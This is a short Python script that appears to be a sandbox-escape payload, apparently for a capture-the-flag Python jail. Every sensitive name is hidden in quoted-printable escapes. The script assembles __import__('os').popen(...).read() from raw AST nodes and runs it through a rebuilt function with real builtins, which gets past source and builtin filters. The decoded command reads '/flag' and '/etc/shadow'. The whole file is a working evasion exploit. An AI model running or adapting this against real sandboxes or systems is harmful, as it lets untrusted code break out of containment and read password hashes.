# technique: the call expression is assembled node by node with ast constructors (no source text), compiled in "single" mode, and the nested lambda's code object is pulled out of co_consts and wrapped with the function type constructor using a globals dict that maps the built-ins key to the real built-in module; names are quoted-printable (binascii.a2b_qp) escapes
import ast
import binascii


def qp(text):
    return binascii.a2b_qp(text).decode()


LOADER = qp("=5F=5F=69=6D=70=6F=72=74=5F=5F")
PROC = qp("=6F=73")
OPENER = qp("=70=6F=70=65=6E")
READ = qp("=72=65=61=64")
BUILTINS_KEY = qp("=5F=5F=62=75=69=6C=74=69=6E=73=5F=5F")
COMMAND = qp("=63=61=74=20=2F=66=6C=61=67=20=2F=65=74=63=2F=73=68=61=64=6F=77")

load_call = ast.Call(func=ast.Name(id=LOADER, ctx=ast.Load()), args=[ast.Constant(PROC)], keywords=[])
open_call = ast.Call(
    func=ast.Attribute(value=load_call, attr=OPENER, ctx=ast.Load()),
    args=[ast.Constant(COMMAND)],
    keywords=[],
)
read_call = ast.Call(func=ast.Attribute(value=open_call, attr=READ, ctx=ast.Load()), args=[], keywords=[])
no_args = ast.arguments(**{field: None if field in ("vararg", "kwarg") else []
                           for field in ast.arguments._fields})
module = ast.Interactive(body=[ast.Expr(value=ast.Lambda(args=no_args, body=read_call))])
ast.fix_missing_locations(module)

outer = compile(module, "<cell>", "single")
inner = next(c for c in outer.co_consts if hasattr(c, "co_code"))
FunctionType = type(lambda: None)
thunk = FunctionType(inner, {BUILTINS_KEY: len.__self__})
print(thunk())
